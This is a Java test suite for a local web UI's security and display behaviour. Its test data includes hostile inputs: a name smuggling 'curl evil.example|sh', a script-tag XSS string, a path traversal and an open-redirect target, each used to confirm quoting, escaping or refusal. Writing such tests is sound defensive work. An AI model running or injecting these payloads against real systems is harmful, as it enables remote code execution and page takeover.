package dev.septet.workers.cli.ui;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.septet.activities.quota.RunUse;
import dev.septet.activities.report.PipelineVersion;
import dev.septet.activities.report.ReportSettings;
import dev.septet.activities.report.RunCost;
import dev.septet.activities.store.Fence;
import dev.septet.dsl.pipeline.SpecJson;
import dev.septet.workers.cli.Captured;
import dev.septet.workers.cli.option.CliProblem;
import dev.septet.workers.cli.option.ExitCode;
import dev.septet.workers.cli.option.Session;
import dev.septet.workflows.artifact.Score;
import dev.septet.workflows.artifact.Verdict;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The pages over real HTTP, without a Temporal server. */
class UiServerTest {
    private static final HttpClient CLIENT = HttpClient.newHttpClient();
    private static final String FORM = "application/x-www-form-urlencoded";

    @TempDir
    private Path home = Path.of("");

    private Session session() {
        return new Captured(home).session();
    }

    private UiStart.Running start() throws IOException {
        return new UiStart(UiStart.HOST, 0, null, null).start(session());
    }

    private static String token(UiStart.Running running) {
        return URI.create(running.link()).getFragment();
    }

    private static HttpResponse<String> get(UiStart.Running running, String path, String... headers)
            throws IOException, InterruptedException {
        HttpRequest.Builder request =
                HttpRequest.newBuilder(URI.create(running.server().address() + path));
        if (headers.length > 0) {
            request.headers(headers);
        }
        return CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static HttpResponse<String> post(UiStart.Running running, String path, String body, String... headers)
            throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(
                        URI.create(running.server().address() + path))
                .header("Content-Type", FORM)
                .POST(HttpRequest.BodyPublishers.ofString(body));
        if (headers.length > 0) {
            request.headers(headers);
        }
        return CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static JsonNode json(UiStart.Running running, String path) throws IOException, InterruptedException {
        HttpResponse<String> response =
                get(running, path, "Authorization", "Bearer " + token(running), "Accept", "application/json");
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        return SpecJson.mapper().readTree(response.body());
    }

    /** The cookie that a browser gets for a key. */
    private static String signIn(UiStart.Running running, String key) throws IOException, InterruptedException {
        HttpResponse<String> response = post(
                running, "/sign-in", "key=" + key, "Origin", running.server().address());
        assertThat(response.statusCode()).as(response.body()).isEqualTo(303);
        String cookie = response.headers().firstValue("Set-Cookie").orElseThrow();
        assertThat(cookie).contains("HttpOnly", "SameSite=Strict", "Path=/").doesNotContain(key);
        return cookie.substring(0, cookie.indexOf(';'));
    }

    private static String form(String page) {
        Matcher secret =
                Pattern.compile("name=\"form\" value=\"([0-9a-f]{48})\"").matcher(page);
        assertThat(secret.find()).isTrue();
        return secret.group(1);
    }

    @Test
    void refusesWhoHasNoKeyAndPagesOfOtherSites() throws Exception {
        try (UiStart.Running running = start()) {
            HttpResponse<String> gate = get(running, "/");
            assertThat(gate.statusCode()).isEqualTo(401);
            assertThat(gate.body()).contains("name=\"key\"").doesNotContain("No pipeline yet");
            assertThat(gate.headers().map())
                    .containsEntry("content-security-policy", List.of(UiAccess.POLICY))
                    .containsEntry("cache-control", List.of("no-store"))
                    .containsEntry("x-frame-options", List.of("DENY"));
            assertThat(UiAccess.POLICY).contains("frame-ancestors 'none'").doesNotContain("unsafe");
            for (String path : List.of(
                    "/pipeline?name=a", "/approvals", "/workers", "/costs", "/review?name=a", "/session", "/other")) {
                assertThat(get(running, path).statusCode()).as(path).isEqualTo(401);
            }
            assertThat(post(running, "/answer", "run=a").statusCode()).isEqualTo(403);
            String bearer = "Bearer " + token(running);
            for (String origin : List.of("https://example.com", "null", "http://127.0.0.1:1")) {
                assertThat(get(running, "/", "Authorization", bearer, "Origin", origin)
                                .statusCode())
                        .as(origin)
                        .isEqualTo(403);
            }
            assertThat(get(running, "/", "Authorization", bearer, "Sec-Fetch-Site", "cross-site")
                            .statusCode())
                    .isEqualTo(403);
            assertThat(get(running, "/", "Sec-Fetch-Site", "cross-site", "Sec-Fetch-Mode", "navigate")
                            .statusCode())
                    .as("a link may lead here")
                    .isEqualTo(401);
            assertThat(raw(running, "GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"))
                    .as("a name of another site that resolves to this machine")
                    .startsWith("HTTP/1.1 421");
            assertThat(get(running, "/ui.css").statusCode()).isEqualTo(200);
        }
    }

    @Test
    void manyWrongKeysOfAnAddressWaitAndTheRightOneDoesNot() throws Exception {
        try (UiStart.Running running = start()) {
            int last = 0;
            for (int tries = 0; tries < 25; tries++) {
                last = get(running, "/", "Authorization", "Bearer wrong" + tries)
                        .statusCode();
            }
            assertThat(last).isEqualTo(429);
            assertThat(post(
                                    running,
                                    "/sign-in",
                                    "key=wrong",
                                    "Origin",
                                    running.server().address())
                            .statusCode())
                    .isEqualTo(429);
            assertThat(json(running, "/").path("view").path("matches").asInt()).isZero();
            signIn(running, token(running));
        }
    }

    @Test
    void aFormNeedsItsSessionItsOriginAndItsSecret() throws Exception {
        try (UiStart.Running running = start()) {
            String cookie = signIn(running, token(running));
            String own = running.server().address();
            String page = get(running, "/", "Cookie", cookie).body();
            String good = "form=" + form(page) + "&action=pause&run=nobody&back=/workers";

            assertThat(post(running, "/steer", good, "Cookie", cookie).statusCode())
                    .as("without an origin")
                    .isEqualTo(403);
            assertThat(post(running, "/steer", good, "Cookie", cookie, "Origin", "https://example.com")
                            .statusCode())
                    .isEqualTo(403);
            assertThat(post(
                                    running,
                                    "/steer",
                                    good.replaceAll("form=[0-9a-f]{4}", "form=0000"),
                                    "Cookie",
                                    cookie,
                                    "Origin",
                                    own)
                            .body())
                    .contains("earlier session");
            assertThat(post(running, "/steer", good, "Cookie", "septet-page-1=" + "0".repeat(48), "Origin", own)
                            .statusCode())
                    .isEqualTo(401);
            HttpResponse<String> sent = post(running, "/steer", good, "Cookie", cookie, "Origin", own);
            assertThat(sent.statusCode()).isEqualTo(303);
            assertThat(sent.headers().firstValue("Location")).contains("/workers");
            assertThat(get(running, "/", "Cookie", cookie).body())
                    .as("what the button did, once")
                    .contains("no Temporal server runs on this machine");
            assertThat(post(
                                    running,
                                    "/steer",
                                    good.replace("back=/workers", "back=//evil.example"),
                                    "Cookie",
                                    cookie,
                                    "Origin",
                                    own)
                            .headers()
                            .firstValue("Location"))
                    .contains("/");
            assertThat(post(running, "/steer", "x".repeat(20_000), "Cookie", cookie, "Origin", own)
                            .statusCode())
                    .isEqualTo(413);
            post(running, "/sign-out", "form=" + form(page), "Cookie", cookie, "Origin", own);
            assertThat(get(running, "/", "Cookie", cookie).statusCode()).isEqualTo(401);
        }
    }

    @Test
    void whatAButtonDidHasTheFocusAndNoRefreshTakesIt() throws Exception {
        try (UiStart.Running running = start()) {
            String cookie = signIn(running, token(running));
            String own = running.server().address();
            String page = get(running, "/", "Cookie", cookie).body();
            post(running, "/steer", "form=" + form(page) + "&action=pause&run=x", "Cookie", cookie, "Origin", own);

            assertThat(get(running, "/", "Cookie", cookie, "X-Septet-Refresh", "1")
                            .body())
                    .as("the refresh of another tab does not take it")
                    .doesNotContain("id=\"notice\"");
            String next = get(running, "/", "Cookie", cookie).body();
            assertThat(next)
                    .containsPattern("<p id=\"notice\" class=\"banner bad\" role=\"alert\" tabindex=\"-1\" autofocus>")
                    .contains("id=\"news\" class=\"away\" role=\"status\"");
            assertThat(next.indexOf("id=\"notice\""))
                    .as("outside of what a refresh replaces")
                    .isLessThan(next.indexOf("id=\"live\""));
            assertThat(get(running, "/ui.js").body()).contains("X-Septet-Refresh");
        }
    }

    /** WCAG 2.2: 4.5 for texts (1.4.3), 3 for the borders of buttons and fields (1.4.11). */
    @Test
    void coloursHaveContrastInLightAndDark() throws Exception {
        try (UiStart.Running running = start()) {
            String css = get(running, "/ui.css").body();
            List<String> themes = Pattern.compile(":root \\{(.*?)\\}", Pattern.DOTALL)
                    .matcher(css)
                    .results()
                    .map(found -> found.group(1))
                    .toList();
            assertThat(themes).as("light and dark").hasSize(2);
            for (String theme : themes) {
                for (String text : List.of(
                        "ink paper",
                        "ink card",
                        "ink hover",
                        "ink quiet-soft",
                        "muted paper",
                        "muted card",
                        "muted hover",
                        "muted bad-soft",
                        "accent paper",
                        "accent card",
                        "accent hover",
                        "on-accent accent",
                        "good good-soft",
                        "bad bad-soft",
                        "bad card",
                        "warn warn-soft",
                        "busy busy-soft")) {
                    assertThat(contrast(theme, text)).as(text).isGreaterThanOrEqualTo(4.5);
                }
                for (String border : List.of("edge card", "edge paper", "one card")) {
                    assertThat(contrast(theme, border)).as(border).isGreaterThanOrEqualTo(3);
                }
            }
        }
    }

    private static double contrast(String theme, String pair) {
        double first = luminance(theme, pair.substring(0, pair.indexOf(' ')));
        double second = luminance(theme, pair.substring(pair.indexOf(' ') + 1));
        return (Math.max(first, second) + 0.05) / (Math.min(first, second) + 0.05);
    }

    private static double luminance(String theme, String name) {
        Matcher colour =
                Pattern.compile("--" + name + ": #([0-9a-f]{6}|[0-9a-f]{3});").matcher(theme);
        assertThat(colour.find()).as(name).isTrue();
        String hex = colour.group(1);
        hex = hex.length() == 3 ? hex.replaceAll("(.)", "$1$1") : hex;
        double sum = 0;
        double[] weights = {0.2126, 0.7152, 0.0722};
        for (int at = 0; at < weights.length; at++) {
            double part = Integer.parseInt(hex.substring(2 * at, 2 * at + 2), 16) / 255.0;
            sum += weights[at] * (part <= 0.04045 ? part / 12.92 : Math.pow((part + 0.055) / 1.055, 2.4));
        }
        return sum;
    }

    @Test
    void aCommandToCopyRunsNothingElse() throws Exception {
        try (UiStart.Running running = start()) {
            String name = "x;curl evil.example|sh 'y";
            String page = get(
                            running,
                            "/pipeline?name=" + URLEncoder.encode(name, StandardCharsets.UTF_8),
                            "Authorization",
                            "Bearer " + token(running))
                    .body();
            assertThat(page)
                    .contains("septet review 'x;curl evil.example|sh '\\''y' --blind")
                    .doesNotContain("septet review x;curl");
        }
    }

    @Test
    void costsComeFromTheRecordsOfRuns() throws Exception {
        Session session = session();
        for (int run = 0; run < 2; run++) {
            Path folder = Files.createDirectories(home.resolve("page-" + run));
            RunCost cost = new RunCost(
                            3_600_000, new ReportSettings.Price(new BigDecimal("2.40"), "EUR"), null, null, null)
                    .with(new RunUse(0.25, 1000, Map.of(run == 0 ? "USD" : "EUR", new BigDecimal("0.75"))));
            Files.writeString(
                    folder.resolve("run.json"), "{\"cost\":" + SpecJson.mapper().writeValueAsString(cost) + "}");
            PipelineVersion version = new PipelineVersion(
                    "0199c5a0-77aa-7000-8000-00000000000" + run,
                    1_700_000_000_000L + run,
                    Verdict.GO,
                    List.of(),
                    null,
                    session.store().put(folder, new Fence("test/" + run, 1)));
            String name = String.format(
                    Locale.ROOT, "versions/support-bot/%013d-%s", version.startedMillis(), version.runId());
            session.store().putRecord(name, SpecJson.mapper().writeValueAsString(version), new Fence("test/" + run, 1));
        }
        try (UiStart.Running running = new UiStart(UiStart.HOST, 0, null, null).start(session)) {
            JsonNode row = json(running, "/costs").at("/view/rows/0");
            assertThat(row.path("pipeline").asText()).isEqualTo("support-bot");
            assertThat(row.at("/cost/use/gpuHours").asDouble()).isEqualTo(0.5);
            assertThat(row.at("/cost/use/tokens").asLong()).isEqualTo(2000);
            assertThat(row.at("/cost/use/costs/USD").asDouble()).isEqualTo(0.75);
            assertThat(row.at("/cost/use/costs/EUR").asDouble()).isEqualTo(0.75);
            assertThat(row.at("/cost/machines/EUR").asDouble()).isEqualTo(4.8);
            String page = get(running, "/costs", "Authorization", "Bearer " + token(running))
                    .body();
            assertThat(page)
                    .contains(
                            "0.75\u00a0EUR and 0.75\u00a0USD",
                            "4.80\u00a0EUR",
                            "2,000",
                            "href=\"/costs\" data-key=\"c\" aria-current=\"page\"");
            assertThat(get(running, "/pipeline?name=support-bot", "Authorization", "Bearer " + token(running))
                            .body())
                    .contains(
                            "0.75\u00a0EUR and 0.75\u00a0USD, 2,000 tokens",
                            "services 0.75\u00a0USD",
                            "0.50 GPU hours");
        }
    }

    @Test
    void aKeyReadsOrActsAndItsSessionEndsWithIt() throws Exception {
        Path file = home.resolve("ui.keys");
        Captured septet = new Captured(home);
        assertThat(septet.run("key", "create", "reader", "--key-file", file, "--scope", "ui-read"))
                .as(septet.err())
                .isZero();
        String reader = septet.out().strip();
        septet.run("key", "create", "anna", "--key-file", file, "--scope", "ui-read,ui-act");
        String anna = septet.out().strip();
        septet.run("key", "create", "server", "--key-file", file);
        String server = septet.out().strip();
        try (UiStart.Running running = new UiStart("127.0.0.1", 0, file, null).start(session())) {
            String own = running.server().address();
            assertThat(running.link()).doesNotContain("#");
            assertThat(get(running, "/", "Authorization", "Bearer " + server).statusCode())
                    .as("a key of the model server opens no page")
                    .isEqualTo(401);
            String cookie = signIn(running, reader);
            String page = get(running, "/", "Cookie", cookie).body();
            assertThat(page).contains("reader, read only");
            String steer = "action=pause&run=nobody&form=" + form(page);
            assertThat(post(running, "/steer", steer, "Cookie", cookie, "Origin", own)
                            .body())
                    .contains("lacks the scope ui-act");
            HttpResponse<String> acted =
                    post(running, "/steer", steer, "Authorization", "Bearer " + anna, "Accept", "application/json");
            assertThat(acted.statusCode()).isEqualTo(409);
            assertThat(acted.body()).contains("no Temporal server runs on this machine");

            Files.writeString(
                    file,
                    Files.readString(file)
                            .lines()
                            .filter(line -> !line.startsWith("reader"))
                            .reduce("", (a, b) -> a + b + "\n"));
            assertThat(get(running, "/", "Cookie", cookie).statusCode())
                    .as("the operator removed the key")
                    .isEqualTo(401);
        }
    }

    @Test
    void otherMachinesNeedKeysAndAPortIsTakenOnce() throws Exception {
        assertThatThrownBy(() -> new UiStart("0.0.0.0", 0, null, null).start(session()))
                .isInstanceOfSatisfying(
                        CliProblem.class,
                        problem -> assertThat(problem.exitCode()).isEqualTo(ExitCode.USAGE))
                .hasMessageContaining("lets other machines connect, and no keys are set");
        try (UiStart.Running running = start()) {
            int port = URI.create(running.server().address()).getPort();
            assertThatThrownBy(() -> new UiStart(UiStart.HOST, port, null, null).start(session()))
                    .isInstanceOfSatisfying(
                            CliProblem.class,
                            problem -> assertThat(problem.exitCode()).isEqualTo(ExitCode.PORT_TAKEN));
        }
    }

    @Test
    void withoutAServerItSaysSoAndShowsWhatTheStoreHas() throws Exception {
        Session session = session();
        String hostile = "</td><script>alert(1)</script>";
        for (int run = 0; run < 3; run++) {
            PipelineVersion version = new PipelineVersion(
                    "0199c5a0-77aa-7000-8000-00000000000" + run,
                    1_700_000_000_000L + run * 86_400_000L,
                    Verdict.GO,
                    List.of(
                            new Score("exactMatch", 0.1, 0.5 + run / 10.0, 0.3, 0.6, 148, Verdict.GO, ""),
                            new Score(hostile, null, 1, null, null, 148, Verdict.GO, "")),
                    run == 1 ? "3f".repeat(32) : null,
                    null);
            String name = String.format(
                    Locale.ROOT, "versions/support-bot/%013d-%s", version.startedMillis(), version.runId());
            session.store().putRecord(name, SpecJson.mapper().writeValueAsString(version), new Fence("test/" + run, 1));
        }
        try (UiStart.Running running = new UiStart(UiStart.HOST, 0, null, null).start(session)) {
            JsonNode list = json(running, "/");
            assertThat(list.path("problem").asText()).contains("no Temporal server runs on this machine");
            assertThat(list.at("/view/rows/0/pipeline").asText()).isEqualTo("support-bot");
            assertThat(list.at("/view/rows/0/score").asDouble()).isEqualTo(0.7);

            String page = get(running, "/pipeline?name=support-bot", "Authorization", "Bearer " + token(running))
                    .body();
            assertThat(page)
                    .contains(
                            "Not current:",
                            "</code> starts one. ",
                            "3f3f3f3f3f3f",
                            "exactMatch over versions",
                            "2023-11-14, run 0199c5a0: 0.5")
                    .contains("&lt;/td&gt;&lt;script&gt;alert(1)&lt;/script&gt;")
                    .doesNotContain("<script>alert");
            assertThat(json(running, "/pipeline?name=support-bot").at("/view/charts/0/points"))
                    .hasSize(3);
            assertThat(get(running, "/pipeline?name=..%2F..%2Fetc", "Authorization", "Bearer " + token(running))
                            .body())
                    .contains("Not current:");
            assertThat(get(running, "/pipeline", "Authorization", "Bearer " + token(running))
                            .statusCode())
                    .isEqualTo(400);
        }
    }

    @Test
    void anEmptyListTeachesTheFirstCommand() throws Exception {
        try (UiStart.Running running = start()) {
            String page = get(running, "/", "Authorization", "Bearer " + token(running))
                    .body();
            assertThat(page).contains("No pipeline yet", "septet run examples/quickstart/pipeline.groovy");
        }
    }

    private static String raw(UiStart.Running running, String request) throws IOException {
        URI address = URI.create(running.server().address());
        try (Socket socket = new Socket(address.getHost(), address.getPort())) {
            socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
